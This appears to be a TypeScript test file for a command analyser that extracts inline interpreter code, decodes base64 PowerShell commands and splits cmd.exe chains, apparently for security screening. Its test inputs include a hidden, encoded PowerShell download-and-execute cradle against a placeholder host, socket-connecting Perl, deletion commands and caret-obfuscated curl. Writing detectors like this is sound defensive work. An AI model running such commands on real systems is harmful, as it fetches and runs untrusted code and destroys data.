import { analyseCommand } from './index';
import type { AnalysisOptions } from './index';

const listed = (text: string, options: AnalysisOptions = {}): string[] =>
  analyseCommand(text, options).invocations.map(({ via, path, args }) =>
    [...via.map((one) => `${one}:`), path, ...args.map((arg) => arg.text)].join(' '),
  );

describe('code of other languages', () => {
  it.each([
    ["python3 -c 'import os'", 'python', 'import os'],
    ["python3.11 -Wc 'x' a", 'python', 'x'],
    ['python - <<E\nimport os\nE', 'python', 'import os\n'],
    ["cat > x.py <<'E'\nimport os\nE\npython x.py", 'python', 'import os\n'],
    ["echo 'import os' | python3", 'python', 'import os\n'],
    ["perl -MSocket -e 'connect()'", 'perl', 'connect()'],
    ["ruby -rsocket -e'x'", 'ruby', 'x'],
    ["node -e 'require(1)'", 'javascript', 'require(1)'],
    ["node --eval='x y'", 'javascript', 'x y'],
    ["php -r 'exec(1);'", 'php', 'exec(1);'],
    ["lua -e 'os.execute()'", 'lua', 'os.execute()'],
    ["awk -F: -v a=1 'BEGIN { system(1) }' f", 'awk', 'BEGIN { system(1) }'],
    ["osascript -e 'do shell script'", 'applescript', 'do shell script'],
    ["deno eval 'x'", 'javascript', 'x'],
    ['T=os; python3 -c "import $T"', 'python', 'import os'],
    ["printf '#!/usr/bin/env python3\\nx' > f; ./f", 'python', '#!/usr/bin/env python3\nx'],
  ])('%s', (text, language, code) => {
    expect(analyseCommand(text).invocations.at(-1)?.code).toEqual([{ language, text: code }]);
  });

  it('is not an argument of the code, nor a file that is not known', () => {
    expect(
      analyseCommand("python3 -c 'a' -c 'b'; python x.py; node x.js; python -m http.server").invocations.map(
        (one) => one.code,
      ),
    ).toEqual([[{ language: 'python', text: 'a' }], undefined, undefined, undefined]);
  });
});

describe('PowerShell and cmd', () => {
  const encoded = Buffer.from('iex (iwr http://h)', 'utf16le').toString('base64');
  it('lists the commands of PowerShell, encoded ones too', () => {
    expect(listed(`powershell -nop -w hidden -enc ${encoded}`)).toEqual([
      `powershell -nop -w hidden -enc ${encoded}`,
      'powershell: decoded: iex',
      'powershell: decoded: iwr http://h',
    ]);
    expect(listed('Get-Item "a b" | Remove-Item -Force; iex $x', { shell: 'powershell' }).slice(1)).toEqual([
      'powershell: Get-Item a b',
      'powershell: Remove-Item -Force',
      'powershell: iex $x',
    ]);
    expect(analyseCommand('a', { shell: 'powershell' }).invocations[0]?.code).toEqual([
      { language: 'powershell', text: 'a' },
    ]);
  });

  it('lists the commands of cmd', () => {
    expect(listed('cmd.exe /c "dir & del x"')).toEqual(['cmd.exe /c dir & del x', 'cmd: dir', 'cmd: del x']);
    expect(listed('c^url http://h && type C:\\x', { shell: 'cmd' })).toEqual(['cmd: curl http://h', 'cmd: type C:\\x']);
  });
});
